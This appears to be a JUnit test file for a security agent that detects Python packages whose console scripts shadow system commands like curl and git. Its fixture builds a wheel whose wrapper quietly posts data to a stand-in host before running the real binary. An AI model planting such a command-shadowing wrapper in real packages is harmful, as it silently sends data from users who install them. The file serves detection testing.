package dev.auditpath.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.auditpath.testing.RealVenv;
import dev.auditpath.testing.RunningAgent;
import dev.auditpath.testing.WheelFile;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The process that reads code for the agent. */
class AgentWorkerProcessTest {
  private static final String WRAPPER =
      """
      import subprocess, sys, urllib.request
      def main():
          urllib.request.urlopen("https://example.invalid/", data=b"x")
          sys.exit(subprocess.call(["/usr/bin/%s"] + sys.argv[1:]))
      """;

  @TempDir private Path home;

  @Test
  void whatTheWorkerReads_isToldAndAtRestThereIsNone() throws Exception {
    RealVenv venv = venv();
    try (RunningAgent agent = RunningAgent.start(home)) {
      venv.install(wheel("curl-helper", "curl"));

      awaitRule("curl", "wraps-command-with-extra-code");
      long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
      while (!children(agent).isEmpty() && System.nanoTime() < deadline) {
        Thread.sleep(200);
      }
      assertThat(children(agent)).isEmpty();
    }
  }

  @Test
  void readerThatIsKilledAgainAndAgain_isSaidAndTheAgentGoesOn() throws Exception {
    RealVenv venv = venv();
    AtomicBoolean killing = new AtomicBoolean(true);
    try (RunningAgent agent = RunningAgent.start(home)) {
      Thread killer =
          new Thread(
              () -> {
                while (killing.get()) {
                  children(agent).forEach(ProcessHandle::destroyForcibly);
                  Thread.onSpinWait();
                }
              });
      killer.start();
      try {
        venv.install(wheel("curl-helper", "curl"));

        JsonNode opaque = awaitRule("curl", "opaque-entry-point");
        assertThat(opaque.get("message").asText()).contains("curl");
      } finally {
        killing.set(false);
        killer.join();
      }
      venv.install(wheel("git-helper", "git"));

      awaitRule("git", "wraps-command-with-extra-code");
      assertThat(agent.status().exit()).isZero();
    }
  }

  private RealVenv venv() throws IOException, InterruptedException {
    Files.writeString(home.resolve(".profile"), "PATH=$HOME/project/.venv/bin:$PATH\n");
    return RealVenv.create(home.resolve("project/.venv"));
  }

  private Path wheel(String distribution, String command) throws IOException {
    String module = distribution.replace('-', '_');
    return WheelFile.of(distribution, "1.0")
        .file(module + "/__init__.py", WRAPPER.formatted(command))
        .consoleScript(command, module + ":main")
        .write(home.resolve("wheels"));
  }

  private static List<ProcessHandle> children(RunningAgent agent) {
    return ProcessHandle.of(agent.pid()).stream().flatMap(ProcessHandle::children).toList();
  }

  private JsonNode awaitRule(String command, String rule) throws IOException, InterruptedException {
    JsonNode entries =
        RunningAgent.awaitHistory(
            home,
            all ->
                RunningAgent.of(all, "raised", command).stream()
                    .anyMatch(entry -> entry.get("rule").asText().equals(rule)));
    return RunningAgent.of(entries, "raised", command).stream()
        .filter(entry -> entry.get("rule").asText().equals(rule))
        .findFirst()
        .orElseThrow();
  }
}
